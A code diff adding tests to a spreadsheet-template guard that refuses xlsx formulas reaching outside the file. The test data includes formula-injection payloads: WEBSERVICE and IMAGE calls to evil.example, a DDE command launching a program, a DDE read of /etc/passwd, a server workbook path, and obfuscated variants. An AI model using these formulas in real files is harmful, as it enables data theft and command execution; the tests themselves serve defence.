@@ -290,6 +290,64 @@ describe('what reaches outside the file is refused', () => {
     );
   });
 
+  const xlsx = (parts: Readonly<Record<string, string>>): Uint8Array =>
+    zipOf({
+      '[Content_Types].xml': contentTypes(EXCEL, 'xl/workbook.xml'),
+      'xl/workbook.xml': '<workbook/>',
+      ...parts,
+    });
+  const sheet = (formula: string): Uint8Array =>
+    xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet><c r="A1"><f>${formula}</f></c></worksheet>` });
+
+  it.each([
+    ['a web page', 'WEBSERVICE("http://evil.example/?"&amp;A1)'],
+    ['a web page, as Excel writes newer functions', '1+_xlfn.WEBSERVICE ("http://evil.example")'],
+    ['a web page, in other letters', '&#87;ebService(A1)'],
+    ['XML of elsewhere', '_xlfn.FILTERXML(A1,"//a")'],
+    ['a picture from a server', '_xlfn.IMAGE("http://evil.example/a.png")'],
+    ['a running program', 'RTD("excel.rtd",,"a")'],
+    ['DDE', "cmd|'/c calc'!A0"],
+    ['DDE in LibreOffice', 'DDE("soffice","/etc/passwd","a")'],
+    ['a web page, behind a name with a quotation mark', "'a\"b'!A1+T[c\"]+T['#]+WEBSERVICE(A1)&amp;T['#]"],
+    ['another workbook by number', '[1]Sheet1!A1'],
+    ['a name of another workbook', 'SUM([1]!Tong)'],
+    ['another workbook by name', "'[Số liệu 2023.xlsx]Sheet 1'!A1"],
+    ['a workbook on a server', "'\\\\evil.example\\a\\b.xlsx'!Tong"],
+  ])('a formula that takes from %s', async (_, formula) => {
+    const refusal = await refusalOf(sheet(formula), 'xlsx');
+    expect(refusal.code).toBe('template-external');
+    expect(refusal.explain('vi')).toContain('xl/worksheets/sheet1.xml: ');
+  });
+
+  it.each([
+    ['a name', 'xl/workbook.xml', '<workbook><definedName name="a">WEBSERVICE("x")</definedName></workbook>'],
+    [
+      'a conditional format',
+      'xl/worksheets/sheet1.xml',
+      '<worksheet><x14:cfRule><xm:f a=">">RTD("x")</xm:f></x14:cfRule></worksheet>',
+    ],
+    ['a chart', 'xl/charts/chart1.xml', '<c:chart><c:f>[1]Sheet1!$A$1</c:f></c:chart>'],
+  ])('such a formula of %s', async (_, part, content) => {
+    await expect(codeOf(xlsx({ [part]: content }), 'xlsx')).resolves.toBe('template-external');
+  });
+
+  it('a formula behind a comment or in CDATA, where it would not be found', async () => {
+    for (const formula of ['WEB<!-- -->SERVICE("x")', '<![CDATA[A1<WEBSERVICE("x")]]>'])
+      await expect(codeOf(sheet(formula), 'xlsx')).resolves.toBe('template-malformed');
+  });
+
+  it.each([
+    'HYPERLINK("https://example.vn","Xem")',
+    'SUM(C5:C5)/$C$1',
+    "'Số liệu 2023'!A1+Sheet2!B2",
+    'SUM(Bang1[Giải ngân],Bang1[[#This Row],[Số]])&amp;Bang1[@Số]',
+    'A1&amp;" | "&amp;Sheet2!B1&amp;" [1] "&amp;Sheet2!B2',
+    "'a | b'!A1",
+    'MYIMAGE(1)',
+  ])('but not %s', async (formula) => {
+    await expect(guardTemplate(sheet(formula), 'xlsx')).resolves.toBeUndefined();
+  });
+
   it.each([
     'word/embeddings/oleObject1.bin',
     'word/activeX/activeX1.xml',
